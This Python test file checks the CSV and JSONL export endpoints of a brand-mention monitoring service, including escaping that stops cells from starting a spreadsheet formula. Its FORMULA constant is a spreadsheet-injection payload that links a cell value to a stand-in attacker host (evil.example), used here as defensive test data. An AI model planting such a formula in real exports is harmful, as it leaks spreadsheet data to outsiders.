"""Exports: everything that a filter finds, without holding it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from monitor.show import cell
from monitor.store import searching
from monitor.web.api import serving
from tests.fakes.programs import program
from tests.fakes.site import Site, site
from tests.fakes.stage import START, Place, post

FORMULA = '=HYPERLINK("https://evil.example/?"&A1) Harbor Plumbing never called, I am furious'


async def hear(there: Site) -> None:
    await there.app.poll(there.app.parts.config.sources["Town forum"], as_new=timedelta(days=7))
    await there.app.work()


async def test_all_of_a_filter_as_csv_and_as_lines(tmp_path: Path) -> None:
    posts = [post(FORMULA, by=f"@Customer, {number}", at=START - timedelta(minutes=number)) for number in range(3)]
    async with site(tmp_path, {"Town forum": Place([*posts, post("Lovely, Harbor Plumbing", at=START)])}) as there:
        await hear(there)
        it = await program(there, "look")
        async with it.ask("GET", "/mentions.csv?words=furious") as answer:
            assert answer.status == 200
            assert answer.content_type == "text/csv"
            assert answer.headers["Content-Disposition"] == 'attachment; filename="mentions.csv"'
            rows = list(csv.DictReader(io.StringIO(await answer.text())))
        assert [row["author"] for row in rows] == [f"'@Customer, {number}" for number in range(3)]
        assert all(row["text"] == f"'{FORMULA}" for row in rows)
        assert rows[0]["at"] == "2026-11-23T09:00:00Z"
        async with it.ask("GET", "/mentions.jsonl?words=furious&limit=1") as answer:
            assert answer.status == 400
        async with it.ask("GET", "/mentions.jsonl?words=furious") as answer:
            lines = [json.loads(line) for line in (await answer.text()).splitlines()]
        assert [line["text"] for line in lines] == [FORMULA] * 3
        assert lines == (await it.get("/mentions?words=furious"))["items"]
        async with it.ask("GET", "/cases.csv?state=open") as answer:
            assert [row["turn"] for row in csv.DictReader(io.StringIO(await answer.text()))] == ["maria"] * 3
        async with it.ask("GET", "/cases.jsonl") as answer:
            assert [json.loads(line) for line in (await answer.text()).splitlines()] == (await it.get("/cases"))[
                "items"
            ]
        async with there.signed_in("look") as them:
            assert "HYPERLINK" in await them.text("/api/v1/mentions.csv")
        limited = await program(there, "look", brands=["Another"])
        async with limited.ask("GET", "/mentions.jsonl") as answer:
            assert await answer.text() == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_begins_a_formula(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"a{start}1+1") == f"a{start}1+1"


async def test_head_of_an_export_reads_no_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[Any] = []
    monkeypatch.setattr(searching, "export", lambda *asked: read.append(asked))
    async with site(tmp_path) as there:
        it = await program(there, "look")
        for name, media in (("mentions.csv", "text/csv"), ("mentions.jsonl", "application/jsonl")):
            async with it.ask("HEAD", f"/{name}") as answer:
                assert (answer.status, answer.content_type) == (200, media)
                assert await answer.read() == b""
    assert read == []


@pytest.fixture
def endless(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """As if a million mentions were stored; how many have been read."""
    read = [0]
    real = searching.export

    async def export(*asked: Any) -> AsyncIterator[searching.Mention]:
        found = [one async for one in real(*asked)]
        while read[0] < 1_000_000:
            for one in found:
                read[0] += 1
                yield one

    monkeypatch.setattr(searching, "export", export)
    return read


async def test_a_slow_reader_keeps_nobody_waiting_and_little_in_memory(
    tmp_path: Path, endless: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(serving, "AT_ONCE", 1)
    async with site(tmp_path, {"Town forum": Place([post(), post()])}) as there:
        await hear(there)
        it = await program(there, "look")
        async with it.ask("GET", "/mentions.jsonl") as answer:
            await answer.content.readany()
            before = -1
            while endless[0] != before:  # until what is on the way is full
                before = endless[0]
                await asyncio.sleep(0.2)
            assert endless[0] < 100_000
            assert len((await it.get("/mentions"))["items"]) == 2
            await hear(there)
            problem = await it.get("/mentions.csv", 503)
            assert problem["title"] == "Other exports are going on"
        await asyncio.sleep(0.1)  # the server notices that nobody reads any more
        async with it.ask("GET", "/cases.csv") as answer:
            assert answer.status == 200


async def test_an_export_that_breaks_off_does_not_look_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = searching.export

    async def export(*asked: Any) -> AsyncIterator[searching.Mention]:
        async for one in real(*asked):
            yield one
        raise RuntimeError("the disk is gone")

    monkeypatch.setattr(searching, "export", export)
    async with site(tmp_path, {"Town forum": Place([post()])}) as there:
        await hear(there)
        it = await program(there, "look")
        with pytest.raises(Exception, match=r"[Pp]ayload|[Dd]isconnect|reset"):
            async with it.ask("GET", "/mentions.jsonl") as answer:
                await answer.read()
